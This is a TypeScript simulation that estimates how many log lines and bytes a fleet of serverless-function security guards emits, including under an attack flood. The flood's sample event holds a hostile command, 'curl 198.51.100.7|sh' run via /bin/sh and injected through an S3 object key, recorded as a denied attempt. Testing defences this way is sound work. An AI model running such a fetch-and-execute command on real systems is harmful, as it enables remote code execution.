import { randomBytes } from 'node:crypto';
import { createReporter } from '../../guards/node/core/reporter.ts';
import { createRandom } from '../oracle/random.ts';

/** A fleet of functions. */
export interface Fleet {
  readonly functions: number;
  readonly callsPerDay: number;
  /** Milliseconds of a call, by which the number of instances follows from the calls. */
  readonly callTakes: number;
  /** Minutes without a call after which the cloud ends an instance. */
  readonly idleMinutes: number;
}

/** The signals that guards send in a day. */
export interface Day {
  readonly instances: number;
  readonly lines: number;
  readonly bytes: number;
  /** Some of the lines. */
  readonly sample: readonly string[];
}

const day = 86_400_000;
/** Functions of one rate are simulated by one of them. */
const buckets = 80;
/** A guard counts the calls between two reports, however many they are, so no more than these are made in five minutes. */
const mostCalls = 20;

/**
 * Simulates a day: a few functions have most of the calls (Zipf), calls come at random times, and each instance has the reporter of the
 * guard for Node. Returns what all guards send.
 */
export function simulateDay({ functions, callsPerDay, callTakes, idleMinutes }: Fleet): Day {
  const random = createRandom(20_261_201);
  const weights = Array.from({ length: functions }, (_, nth) => 1 / (nth + 1));
  const sum = weights.reduce((total, weight) => total + weight, 0);
  let instances = 0;
  let lines = 0;
  let bytes = 0;
  const sample: string[] = [];
  for (let bucket = 0; bucket < buckets; bucket++) {
    const from = Math.floor(functions ** (bucket / buckets));
    const to = Math.floor(functions ** ((bucket + 1) / buckets));
    const members = (bucket === buckets - 1 ? functions + 1 : to) - from;
    if (members === 0) continue;
    const middle = Math.floor((from + to) / 2);
    const calls = ((weights[middle - 1] ?? 0) / sum) * callsPerDay;
    const atOnce = Math.max(1, Math.ceil((calls / day) * callTakes));
    const sent = dayOfInstance(`F${middle}`, calls / atOnce, idleMinutes, random.below);
    instances += members * atOnce * sent.instances;
    lines += members * atOnce * sent.lines.length;
    bytes += members * atOnce * sent.lines.reduce((total, line) => total + line.length + 1, 0);
    sample.push(...sent.lines.slice(0, 300));
  }
  return { instances, lines, bytes, sample };
}

/** Simulates one place for calls of a function: one instance at a time, and the next one after the cloud has ended it. */
function dayOfInstance(
  name: string,
  calls: number,
  idleMinutes: number,
  below: (limit: number) => number,
): { readonly instances: number; readonly lines: readonly string[] } {
  const lines: string[] = [];
  const pause = Math.max(day / calls, (5 * 60_000) / mostCalls);
  let now = 0;
  let instances = 0;
  let reporter = reporterOf(name, () => now, lines);
  let last = Number.NEGATIVE_INFINITY;
  for (;;) {
    // The time to the next of calls that come at random.
    now += -Math.log((1 + below(999_999)) / 1_000_000) * pause;
    if (now >= day) return { instances, lines };
    if (now - last > idleMinutes * 60_000) {
      instances += 1;
      reporter = reporterOf(name, () => now, lines);
      reporter.report('start', { evidence: { start: { outbound: 'enforce', processes: 'enforce' } } });
    }
    last = now;
    reporter.ran();
    for (let rule = 0; rule < 5; rule++) reporter.hit(`m${rule}`, `host-${below(8)}.example:443`);
    reporter.flush(false);
  }
}

/** Simulates a minute of instances whose every event is an attack, far more often than a guard reports. */
export function simulateFlood(attacked: number): Omit<Day, 'instances'> {
  const lines: string[] = [];
  let now = 0;
  const reporter = reporterOf('F1', () => now, lines);
  for (let event = 0; event < 6_000; event++) {
    now = event * 10;
    reporter.report('block', {
      section: 'processes',
      rule: '(all other)',
      decision: 'deny',
      mode: 'enforce',
      evidence: {
        what: '/bin/sh -c "curl 198.51.100.7|sh"',
        api: 'child_process.exec',
        path: 'Records[0].s3.object.key',
        proof: 'the event’s text became 2 new shell words',
        stack: ['src/thumbnail.ts:18', 'src/handler.ts:7'],
      },
    });
  }
  const bytes = lines.reduce((total, line) => total + line.length + 1, 0);
  return { lines: attacked * lines.length, bytes: attacked * bytes, sample: lines };
}

const reporterOf = (name: string, now: () => number, lines: string[]) =>
  createReporter({
    app: 'fleet',
    function: name,
    digest: 'a41c9e7711000000',
    level: 'in-process',
    now,
    emit: (line) => lines.push(line),
    invocation: () => randomBytes(16).toString('hex'),
    note: () => null,
    learned: () => ({}),
    excerpt: (text) => text,
    random: () => randomBytes(8).toString('hex'),
  });
